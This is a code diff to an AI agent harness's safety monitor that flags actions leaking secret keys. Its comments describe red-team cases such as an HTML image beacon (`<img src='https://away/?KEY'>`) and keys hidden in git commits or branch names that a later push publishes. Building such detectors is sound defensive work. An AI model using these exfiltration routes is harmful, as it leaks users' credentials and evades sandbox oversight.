@@ -33,10 +33,12 @@ from macrohard.safety import rules_data as R
 from macrohard.safety.carried import follow, globs, literal_words
 from macrohard.safety.context import GuardContext
 from macrohard.safety.flow_background import fed, started
+from macrohard.safety.flow_beacon import key_in_address, shell_beacon, shown
 from macrohard.safety.flow_config_read import judge_shell as config_shell
 from macrohard.safety.flow_config_read import judge_text as config_text
 from macrohard.safety.flow_configs import config_files, named_by, redirected_data, runs_found
 from macrohard.safety.flow_git_tree import git_tree
+from macrohard.safety.flow_history import recorded_file, recording
 from macrohard.safety.flow_named import named_files, revoked
 from macrohard.safety.flow_paths import (
     RUNNERS,
@@ -229,9 +231,27 @@ class FlowCheck:
             pending.sends += (f"the action holds {held}",)  # rt58: a key the model read, written out by it
             # rt61: typed on the desktop (a launched program sends what it is given), or written by the shell where
             # nothing follows a literal (`echo "build KEY" > f`, `export B=KEY`): `$(cat k)` is followed
+        elif state.keys and kind == "bash" and (held := key_in_address(action, state.keys)):
+            # rt62: a key put into an address with the network off (`echo "<img src='https://away/?KEY'>" > r.html`):
+            # fetched when the person opens what the line wrote, outside the sandbox (safety.flow_beacon)
+            pending.sends += (f"the action puts {held} into an address that leaves this machine (fetched when what it "
+                              "wrote is shown)",)
+        elif kind == "bash" and state.keys and (parts := recording(str(action.command))) and (
+                held := _written_key(BashAction(command="\n".join(parts)), state.keys)):
+            # rt62: a key in a commit, a tag or a branch's name goes with the person's next push (safety.flow_history)
+            pending.sends += (f"git records {held} in the repository, which its next push publishes",)
+        elif kind == "bash" and (named := recorded_file(str(action.command), shell_base(ctx))):
+            pending.sends += (f"git records the text of {named} in the repository, which its next push publishes",)
+        elif kind == "bash" and (named := shell_beacon(str(action.command), shell_base(ctx))):
+            pending.sends += (f"the line puts the text of {named} into an address of a document that is fetched "
+                              "when it is shown (a beacon)",)
         elif state.keys and kind in ("write_file", "edit_file") and (held := _written_key(action, state.keys)):
             if str(getattr(action, "path", "")).lower().endswith(_CODE_ENDINGS):  # imported by code: not followed
                 pending.sends += (f"the action writes {held} into code (read it from its file, or from .env)",)
+            elif shown(str(getattr(action, "path", ""))) and (beacon := key_in_address(action, state.keys)):
+                # rt62: a page or document the person opens fetches its addresses: a beacon (safety.flow_beacon)
+                pending.sends += (f"the action writes {beacon} into an address in a document that is fetched when "
+                                  "it is shown",)
             else:  # rt61: a note the model wrote holding the key carries it (`grep remember notes.md`, then sent)
                 pending.carried = _carries(action, ctx, pending.carried or state.carried, held)
         if ctx.network != "none" and kind in ("bash", "write_file", "edit_file"):
@@ -968,8 +988,8 @@ class FlowScreen:
             from macrohard.safety.secret_files import shown_keys
 
             command = str(getattr(running.action, "command", ""))
-            for value, where in shown_keys(command, obs.output, shell_base(ctx),
-                                           (ctx.workspace, ctx.shell_workspace)).items():
+            for value, where in shown_keys(command, obs.output, shell_base(ctx), (ctx.workspace, ctx.shell_workspace),
+                                           bool(ctx.jobs or ctx.detached)).items():
                 if len(ctx.flow.keys) < 32:
                     ctx.flow.keys.setdefault(value, where)
         if ran.startswith("browser_") and isinstance(obs.meta.get("url"), str):
